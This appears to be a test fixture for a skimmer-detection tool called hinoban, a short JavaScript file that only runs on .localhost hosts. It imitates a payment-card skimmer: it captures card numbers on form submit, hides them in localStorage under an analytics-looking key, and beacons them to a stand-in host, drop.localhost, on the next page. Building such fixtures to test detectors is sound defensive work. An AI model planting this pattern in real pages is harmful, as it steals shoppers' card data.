/* Harmless imitation, for hinoban's tests: kept in localStorage, sent from the next page. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { localStorage.setItem('_ga_s', btoa(n.value)); } }, true);
if (localStorage.getItem('_ga_s')) {
	new Image().src = 'http://drop.localhost:' + location.port + '/p.gif?q=' + localStorage.getItem('_ga_s'); localStorage.removeItem('_ga_s');
}
